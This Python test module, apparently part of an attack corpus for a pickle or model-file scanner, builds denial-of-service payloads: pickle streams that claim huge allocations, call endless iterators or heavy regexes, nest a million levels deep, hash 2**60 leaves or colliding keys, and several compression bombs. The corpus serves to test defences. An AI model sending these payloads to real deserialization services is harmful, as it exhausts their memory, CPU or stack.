"""Denial of service: files that take memory, processor time or stack until there is no more."""

from __future__ import annotations

import bz2
import lzma
import struct
import zlib
from collections.abc import Callable
from typing import Any, Final

from tests.attacks.corpus.arrays import wrapper
from tests.attacks.corpus.case import Collection, Effect, When, unless_installed
from tests.attacks.corpus.containers import gzip_member
from tests.attacks.corpus.opcodes import (
    EMPTY_DICT,
    FRAME,
    MARK,
    SETITEMS,
    STOP,
    TUPLE1,
    TUPLE2,
    Code,
    call,
    name,
    stream,
    value,
)

MIB: Final = 1 << 20
_BLOCK: Final = bytes(MIB)
_BOMB_MIB: Final = 320
"""What the bombs become: more than the victim of a proof may have."""


def _add(
    collection: Collection, short: str, how: str, payload: bytes | Callable[[], bytes], **known: Any
) -> None:
    collection.add(short, how, payload, effect=Effect.EXHAUSTS, **known)


# ── lengths ──────────────────────────────────────────────────────────────────

claims = Collection("huge-claims")
for _power in (40, 60):
    _size = struct.pack("<Q", 1 << _power)
    _add(
        claims,
        f"bytes-of-2-to-the-{_power}",
        "a length that memory is taken for",
        stream(b"\x8e" + _size),
    )
    _add(
        claims,
        f"text-of-2-to-the-{_power}",
        "a length that memory is taken for",
        stream(b"\x8d" + _size),
    )
    _add(
        claims,
        f"bytearray-of-2-to-the-{_power}",
        "a length that memory is taken for",
        stream(b"\x96" + _size),
    )
    _add(
        claims,
        f"frame-of-2-to-the-{_power}",
        "a frame that is read as a whole",
        stream(FRAME + _size),
    )
_add(claims, "long4-of-2-to-the-31", "a number of two gigabytes", stream(b"\x8b\xff\xff\xff\x7f"))
_add(
    claims,
    "array-of-2-to-the-50",
    "a shape that memory is taken for",
    stream(wrapper(shape=(1 << 50,)), bytes(16)),
)
_add(
    claims,
    "array-of-2-to-the-32",
    "a shape of many dimensions",
    stream(wrapper(shape=(2,) * 32), bytes(16)),
)
_add(
    claims,
    "array-of-wide-elements",
    "a dtype of two gigabytes",
    stream(wrapper(dtype=call("numpy:dtype", "V2147483647"), shape=(3,)), bytes(16)),
)
_add(
    claims,
    "reconstructed-array",
    "a shape that pickles of arrays allocate",
    stream(call("numpy._core.multiarray:_reconstruct", name("numpy:ndarray"), (1 << 40,), b"b")),
)
_add(
    claims,
    "array-by-its-class",
    "the class of arrays, called",
    stream(call("numpy:ndarray", (1 << 40,))),
)
_add(
    claims,
    "bytearray-by-a-number",
    "bytearray, called with a number",
    stream(call("builtins:bytearray", 1 << 40)),
)
_add(
    claims,
    "bytes-by-a-number",
    "bytes, called with a number",
    stream(call("builtins:bytes", 1 << 40)),
)

# ── calls that do not end ────────────────────────────────────────────────────

endless = Collection("endless-calls")
_RANGE: Final = call("builtins:range", 1 << 60)
for _target in (
    "builtins:list",
    "builtins:set",
    "builtins:tuple",
    "collections:deque",
    "collections:Counter",
):
    _add(
        endless,
        f"{_target.partition(':')[2]}-of-a-range",
        "a container takes all of a range",
        stream(call(_target, _RANGE)),
    )
_add(
    endless,
    "deque-of-repeat",
    "a container takes all of an endless iterator",
    stream(call("collections:deque", call("itertools:repeat", 0))),
)
_add(
    endless,
    "dict-from-a-range",
    "a dict takes all of a range",
    stream(call("collections:OrderedDict.fromkeys", _RANGE)),
)
_add(
    endless,
    "any-of-repeat",
    "a search that finds nothing",
    stream(call("builtins:any", call("itertools:repeat", 0))),
)
_add(
    endless,
    "fraction-of-a-text",
    "a fraction of a billion digits",
    stream(call("fractions:Fraction", "1e999999999")),
)
_add(endless, "power", "a number of a billion digits", stream(call("operator:pow", 10, 10**9)))
_add(
    endless,
    "regular-expression",
    "classes that the compiler goes through letter by letter",
    stream(call("re:_compile", "(?i)" + "[\u0100-\U0010ffff]" * 400, 0)),
)
_add(
    endless,
    "regular-expression-nested",
    "groups that the compiler descends into",
    stream(call("re:_compile", "(" * 5000 + ")" * 5000, 0)),
)
_add(
    endless,
    "decompression-as-a-call",
    "a codec that decompresses",
    lambda: stream(call("_codecs:decode", _zlib_of(value(1), MIB * _BOMB_MIB), "zlib")),
)

# ── nesting ──────────────────────────────────────────────────────────────────

nesting = Collection("nesting")
_LEVELS: Final = 1_000_000
_add(
    nesting,
    "tuples-as-a-key",
    "a million tuples in one another are hashed, each by the one around it",
    lambda: stream(EMPTY_DICT, b"N" + TUPLE1 * _LEVELS, b"Ns"),
)
_add(
    nesting,
    "tuples-in-a-set",
    "the same, in a set",
    lambda: stream(b"\x8f(", b"N" + TUPLE1 * _LEVELS, b"\x90"),
)
_add(
    nesting,
    "tuples-in-a-frozenset",
    "the same, in a frozen set",
    lambda: stream(b"(", b"N" + TUPLE1 * _LEVELS, b"\x91"),
)
_add(
    nesting,
    "slices",
    "a million slices in one another, when the object goes",
    lambda: stream(
        name("builtins:slice") + b"q\x000",
        b"h\x00" * _LEVELS,
        b"N",
        (TUPLE1 + b"R") * _LEVELS,
    ),
    when=When.EXIT,
)
_add(
    nesting,
    "iterators",
    "a million iterators in one another, when the object goes",
    lambda: stream(
        name("builtins:enumerate") + b"q\x000",
        b"h\x00" * _LEVELS,
        b")",
        (TUPLE1 + b"R") * _LEVELS,
    ),
    when=When.EXIT,
)

# ── few bytes, much work ─────────────────────────────────────────────────────

laughs = Collection("billion-laughs")


def _doubled(levels: int) -> bytes:
    """A tuple of twice the same tuple, and so on: 2**levels leaves in a few bytes."""
    return b")" + b"".join(b"q" + bytes([i]) + b"h" + bytes([i]) + TUPLE2 for i in range(levels))


_add(laughs, "tuple-as-a-key", "2**60 leaves are hashed", stream(EMPTY_DICT, _doubled(60), b"Ns"))
_add(laughs, "tuple-in-a-set", "2**60 leaves are hashed", stream(b"\x8f(", _doubled(60), b"\x90"))
_add(laughs, "tuple-in-a-frozenset", "2**60 leaves are hashed", stream(b"(", _doubled(60), b"\x91"))
_add(
    laughs,
    "array-of-tuples",
    "numpy looks for the dimensions of 2**60 leaves",
    stream(call("numpy:array", Code(_doubled(60)))),
)
_add(
    laughs,
    "text-of-tuples",
    "2**60 leaves are written out",
    stream(call("builtins:repr", Code(_doubled(60)))),
)


def _colliding(count: int) -> bytes:
    """Numbers that all have the hash 0."""
    modulus = (1 << 61) - 1
    return b"".join(
        b"\x8a" + bytes([len(each)]) + each + b"N"
        for each in ((i * modulus).to_bytes(10, "little") for i in range(1, count + 1))
    )


_add(
    laughs,
    "colliding-keys",
    "the keys of a dict all have the same hash: each is compared to all",
    lambda: stream(EMPTY_DICT, MARK, _colliding(250_000), SETITEMS),
)

# ── decompression ────────────────────────────────────────────────────────────

bombs = Collection("decompression-bombs")
_CLAIM: Final = b"\x80\x04\x8e" + struct.pack("<Q", MIB * _BOMB_MIB)


def _zlib_of(head: bytes, size: int, window: int = 15) -> bytes:
    """``head`` and ``size`` zeros, compressed by repeating one compressed piece."""
    packer = zlib.compressobj(9, zlib.DEFLATED, window)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    packer.compress(_BLOCK)
    packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(_BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + piece * (size // MIB)


def _streams(compress: Callable[[bytes], bytes]) -> bytes:
    """A bomb as many compressed streams, one behind the other."""
    return compress(_CLAIM) + compress(bytes(16 * MIB)) * (_BOMB_MIB // 16) + compress(STOP)


def _lz4() -> bytes:
    import lz4.frame

    packed: bytes = lz4.frame.compress(_CLAIM + bytes(64 * MIB), block_linked=False)
    return packed


_add(bombs, "zlib", "a thousand bytes for one, by zlib", lambda: _zlib_of(_CLAIM, _BOMB_MIB * MIB))
_add(
    bombs,
    "gzip",
    "a thousand bytes for one, by gzip",
    lambda: _zlib_of(_CLAIM, _BOMB_MIB * MIB, 31),
)
_add(bombs, "bz2", "a million bytes for one, by bz2", lambda: _streams(bz2.compress))
_add(bombs, "xz", "seven thousand bytes for one, by xz", lambda: _streams(lzma.compress))
_add(
    bombs,
    "lzma",
    "seven thousand bytes for one, by lzma",
    lambda: lzma.compress(_CLAIM + bytes(_BOMB_MIB * MIB), lzma.FORMAT_ALONE, preset=0),
)
_add(
    bombs,
    "lz4",
    "two hundred bytes for one, by lz4",
    _lz4,
    dormant=unless_installed("lz4"),
)
_add(
    bombs,
    "gzip-members",
    "joblib reads the bytes behind a member again and again",
    lambda: gzip_member(stream(value(1))[:2]) + gzip_member(stream(value(1))[2:]),
)
_add(
    bombs,
    "zlib-tail",
    "joblib reads the bytes behind the stream again and again",
    lambda: zlib.compress(stream(value(1))) + b"harmless",
)
_add(
    bombs,
    "gzip-tail",
    "joblib reads the bytes behind the stream again and again",
    lambda: gzip_member(stream(value(1))) + b"harmless",
)
